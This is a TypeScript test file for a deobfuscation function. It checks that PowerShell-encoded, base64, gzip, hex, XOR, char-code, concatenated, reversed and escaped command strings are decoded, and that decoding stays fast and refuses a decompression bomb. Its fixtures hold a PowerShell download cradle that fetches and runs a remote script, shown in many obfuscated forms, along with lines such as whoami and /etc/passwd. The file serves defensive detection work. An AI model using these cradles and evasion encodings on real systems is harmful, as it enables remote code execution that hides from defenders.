import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeText } from './decode.ts';

const base64 = (text: string | Uint8Array): string =>
  Buffer.from(text as string).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const xored = (key: number): Buffer => Buffer.from(Buffer.from(download).map((b) => b ^ key));
const codes = (text: string, by: string): string => [...text].map((c) => c.charCodeAt(0)).join(by);

describe('decodeText', () => {
  it.each<[string, string, string]>([
    [
      'powershell -enc',
      `powershell -enc ${Buffer.from(download, 'utf16le').toString('base64')}`,
      `powershell -enc ${download}`,
    ],
    ['base64 in base64', base64(`echo ${base64(download)}`), `echo ${download}`],
    [
      'base64 of URLs, without padding',
      Buffer.from(`${download}?>?>`).toString('base64url'),
      `${download}?>?>`,
    ],
    ['gzip in base64', `x ${base64(gzipSync(download))} y`, `x ${download} y`],
    [
      'deflate in base64',
      `FromBase64String("${base64(deflateRawSync(Buffer.from(download.repeat(3))))}")`,
      download,
    ],
    ['hex', `run ${hex(download)} now`, `run ${download} now`],
    ['hex in pairs', hex(download).replace(/../g, '0x$&,').slice(0, -1), download],
    ['\\x', hex('calc.exe').replace(/../g, '\\x$&'), 'calc.exe'],
    ['%u', '%u0063%u0061%u006c%u0063', 'calc'],
    ['url', 'q=%2Fetc%2Fpasswd%20%C3%BC', 'q=/etc/passwd ü'],
    ['XOR that nothing tells of', `$b = "${base64(xored(0x5a))}"`, download],
    [
      'XOR that the script tells',
      `${codes(xored(35).toString('latin1'), ',')} | % { $_ -bxor 35 }`,
      download,
    ],
    ['one character after the other', 'IEX ([char]0x69+[char]101+[char](120))', "IEX 'iex'"],
    [
      'a list of characters',
      `-join([char[]](${codes('Invoke-Expression', ',')}))`,
      'Invoke-Expression',
    ],
    [
      'String.fromCharCode',
      `eval(String.fromCharCode(${codes('alert(1)', ', ')}))`,
      "eval('alert(1)')",
    ],
    ['a bare list', codes('whoami /all', ','), 'whoami /all'],
    ['concatenation', "&('Inv'+'oke-Ex' + \"pression\")", "&'Invoke-Expression'"],
    [
      'concatenation inside of double quotes',
      "powershell -c \"&('i'+'ex') x\"",
      'powershell -c "&(\'iex\') x"',
    ],
    ['the format operator', "(\"{2}{0}{1}\" -f 'oke-Exp','ression','Inv')", 'Invoke-Expression'],
    [
      'replacements',
      "'XnvokYZYxprYssion'.replace('X','I').replace('Y','e') -replace 'eZe','e-E'",
      'Invoke-Expression',
    ],
    ['a literal backwards', "('noisserpxE-ekovnI'[-1..-17] -join '')", 'Invoke-Expression'],
    ['StrReverse', 'StrReverse("exe.clac")', 'calc.exe'],
    ['a whole text backwards', [...'powershell -c calc'].reverse().join(''), 'powershell -c calc'],
    ['carets', 'c^m^d /c p^ow^ers^hell', 'cmd /c powershell'],
    ['backticks', 'I`E`X (n`Ew-obJ`ect x)', 'IEX (nEw-obJect x)'],
    ['cut variables of cmd', '%COMSPEC:~-7,3% /c %PUBLIC:~0,1%', 'cmd /c C'],
    ['variables of cmd', 'set a=power&& set b=shell&& %a%%b% -c x', 'powershell -c x'],
    ['letters of variables', "& ($pshome[4]+$PSHOME[30]+'x')", "'iex'"],
    ['more letters of variables', "$env:ComSpec[4,24,25]-join''", "'Iex'".toLowerCase()],
    ['a join', "(('po','wer','shell') -join '')", 'powershell'],
  ])('undoes %s', (_, text, expected) => {
    const steps = decodeText(text);
    expect(steps.at(-1)?.text).toContain(expected);
    for (const step of steps) expect(step.method).not.toBe('');
  });

  it('leaves what is neither encoded nor disguised', () => {
    for (const text of [
      '',
      'nothing to see here',
      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
      "don't touch what isn't hidden",
      '%%2309 %%1833',
      'ver 4.0.30319.42000, 10.0.0.1 at 12:30:45, 2024-05-06',
      'd41d8cd98f00b204e9800998ecf8427e 550e8400-e29b-41d4-a716-446655440000',
    ])
      expect(decodeText(text)).toEqual([]);
  });

  it.each([
    'a',
    "'",
    '"',
    "'a'+",
    "'a',",
    '(',
    ')',
    '`',
    '^',
    'a^b',
    '%',
    '%41',
    '\\x41',
    '1,',
    '1 ',
    '0x41,',
    'QUFB',
    'A',
    '41',
    '[char]',
    '[char]65+',
    '{0}',
    "'{0}'-f",
    '$env:',
    'set a=',
    '%a:~0,1%',
    "-join'a'",
    "'a'.replace('a','aa')",
    '\n',
    "'\n",
  ])('ends soon on a text of %s', (unit) => {
    const start = process.cpuUsage();
    decodeText(unit.repeat(Math.ceil(65_536 / unit.length)));
    const { user, system } = process.cpuUsage(start);
    expect((user + system) / 1e6).toBeLessThan(15);
  });

  it('leaves a bomb packed', () => {
    expect(decodeText(base64(gzipSync(Buffer.alloc(50e6, 65))))).toEqual([]);
  });
});
